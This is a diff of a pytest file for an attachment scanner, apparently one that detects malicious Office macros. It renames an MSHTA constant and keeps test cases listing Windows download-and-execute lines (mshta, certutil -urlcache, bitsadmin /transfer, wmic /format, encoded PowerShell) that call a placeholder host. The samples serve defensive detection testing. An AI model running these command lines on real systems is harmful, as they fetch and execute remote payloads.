@@ -15,7 +15,7 @@ from attachguard import Policy, Rules, Scanner
 from attachguard.filetypes import TYPES
 from attachguard.rules import EXTERNALS, builtin_folder
 from tests.fixtures import ooxml
-from tests.rules.samples import CASES, CODE, DOWNLOAD, HOST, MSHTA, POWERSHELL, PROGRAM, Sample, command
+from tests.rules.samples import CASES, CODE, DOWNLOAD, HOST, PAGE_RUNNER, POWERSHELL, PROGRAM, Sample, command
 
 
 @pytest.fixture(scope="module")
@@ -108,9 +108,9 @@ def test_a_macro_that_downloads_is_found_in_every_form_of_workbook(matched, name
 @pytest.mark.parametrize(
     "line",
     [
-        f"{MSHTA} {HOST}/a.hta",
-        f"{MSHTA}.exe {HOST}/a",
-        f'{MSHTA} vbscript:Execute("x")(window.close)',
+        f"{PAGE_RUNNER} {HOST}/a.hta",
+        f"{PAGE_RUNNER}.exe {HOST}/a",
+        f'{PAGE_RUNNER} vbscript:Execute("x")(window.close)',
         f"certutil -url{'cache'} -split -f {HOST}/a a.exe",
         f"bitsadmin /trans{'fer'} a {HOST}/a C:\\a.exe",
         f'wmic os get /form{"at"}:"{HOST}/a.xsl"',
@@ -124,7 +124,7 @@ def test_windows_tools_are_known_in_their_foreign_uses(matched, line):
 @pytest.mark.parametrize(
     ("target", "arguments", "expected"),
     [
-        (f"C:\\Windows\\System32\\{MSHTA}.exe", f"{HOST}/a", True),
+        (f"C:\\Windows\\System32\\{PAGE_RUNNER}.exe", f"{HOST}/a", True),
         (f"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\{POWERSHELL}.exe", f"-ec {CODE} -enc{'o'} {CODE}", True),
         ("%ComSpec%", "/c copy a %TEMP%\\a.exe", True),
         (f"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\{POWERSHELL}.exe", "", False),
